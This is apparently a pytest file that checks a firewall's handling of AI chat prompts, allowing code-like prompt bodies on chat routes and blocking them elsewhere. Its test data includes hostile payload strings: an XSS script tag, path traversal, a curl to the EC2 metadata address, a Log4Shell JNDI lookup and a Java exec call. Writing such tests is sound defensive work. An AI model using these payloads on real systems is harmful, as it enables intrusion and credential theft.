"""Prompt-shaped traffic through the edge: ordinary prompts with code, HTML, paths, URLs and metadata
addresses reach the filter, while the same content anywhere but a prompt body is still blocked.

The web ACL is taken from the plan; the managed rules are modelled by their documented patterns
(`waf_model`)."""

from __future__ import annotations

import json
from urllib.parse import quote_plus

import pytest

from tests.components.test_api_edge import acl
from tests.components.waf_model import MANAGED_RULES, Request, evaluate, matching_rules
from tests.conftest import Plan

# What users paste into a chat, and which managed rule's documented pattern each one matches.
PROMPTS: dict[str, tuple[str, set[str]]] = {
    "html": ("Why does <script>alert('hi')</script> not run when I set innerHTML?", {"CrossSiteScripting_BODY"}),
    "js-handler": ('My <img src="x" onerror=alert(1)> test fires twice, why?', {"CrossSiteScripting_BODY"}),
    "relative-path": ("The loader reads ../../config/settings.yaml; is that traversal?", {"GenericLFI_BODY"}),
    "url-with-ip": ("Summarise the runbook at http://10.0.0.12/wiki/Runbook please", {"GenericRFI_BODY"}),
    "metadata-address": (
        "What does curl http://169.254.169.254/latest/meta-data/ return on EC2?",
        {"EC2MetaDataSSRF_BODY", "GenericRFI_BODY"},
    ),
    "log4shell": ("Explain why ${jndi:ldap://example.com/a} in a header was dangerous", {"Log4JRCE_BODY"}),
    "java": ('What does (java.lang.Runtime).getRuntime().exec("whoami") do?', {"JavaDeserializationRCE_BODY"}),
}
PLAIN = "Write a haiku about autumn leaves."


def chat(text: str) -> str:
    return json.dumps({"messages": [{"role": "user", "content": text}], "max_tokens": 256})


def screen(text: str) -> str:
    return json.dumps({"text": text, "direction": "input"})


def rules(plan: Plan) -> list[dict[str, object]]:
    found: list[dict[str, object]] = acl(plan)["inputs"]["rules"]
    return found


@pytest.mark.parametrize("name", PROMPTS)
def test_each_prompt_matches_the_documented_pattern_of_its_rules(name: str) -> None:
    text, expected = PROMPTS[name]
    assert matching_rules(Request("POST", "/v1/chat", chat(text))) == expected
    assert matching_rules(Request("POST", "/v1/chat", chat(PLAIN))) == set()


@pytest.mark.parametrize("path", ["/dev/v1/chat", "/prod/v1/screen", "/v1/chat", "/v1/screen"])
@pytest.mark.parametrize("name", PROMPTS)
def test_prompts_reach_the_filter(plan: Plan, name: str, path: str) -> None:
    """With the stage in the path (execute-api) or without (a custom domain)."""
    text, _ = PROMPTS[name]
    body = chat(text) if path.endswith("/chat") else screen(text)
    assert evaluate(rules(plan), Request("POST", path, body)) == ("ALLOW", "default")


@pytest.mark.parametrize("path", ["/dev/v1/upload", "/dev/v1/chat/history", "/dev/v1/chat.php", "/admin"])
@pytest.mark.parametrize("name", PROMPTS)
def test_the_same_bodies_are_blocked_on_other_paths(plan: Plan, name: str, path: str) -> None:
    text, _ = PROMPTS[name]
    verdict, _ = evaluate(rules(plan), Request("POST", path, chat(text)))
    assert verdict == "BLOCK"


@pytest.mark.parametrize("name", PROMPTS)
def test_the_same_content_in_a_query_string_is_blocked_on_prompt_routes(plan: Plan, name: str) -> None:
    text, _ = PROMPTS[name]
    assert {r.name for r in MANAGED_RULES if r.component == "query" and r.matches(text)}
    request = Request("POST", "/dev/v1/chat", chat(PLAIN), query=f"q={quote_plus(text)}")
    verdict, _ = evaluate(rules(plan), request)
    assert verdict == "BLOCK"


def test_a_plain_prompt_passes_everywhere(plan: Plan) -> None:
    for path in ("/dev/v1/chat", "/dev/v1/upload"):
        assert evaluate(rules(plan), Request("POST", path, chat(PLAIN))) == ("ALLOW", "default")


def test_prompt_bodies_over_the_filter_limit_are_still_blocked(plan: Plan) -> None:
    verdict, rule = evaluate(rules(plan), Request("POST", "/dev/v1/chat", chat("x" * 70_000)))
    assert (verdict, rule) == ("BLOCK", "body-size-limit")


def test_the_component_labels_are_the_documented_ones() -> None:
    """The re-block rule matches on labels; a misspelt label would silently let bodies through."""
    from components.waf import PROMPT_BODY_RULES, prompt_body_labels

    documented = {r.name: r.label for r in MANAGED_RULES}
    counted = [rule for rules_ in PROMPT_BODY_RULES.values() for rule in rules_ if rule in documented]
    assert {documented[rule] for rule in counted} <= set(prompt_body_labels())
    assert len(counted) == sum(len(r) for r in PROMPT_BODY_RULES.values())  # every counted rule is modelled
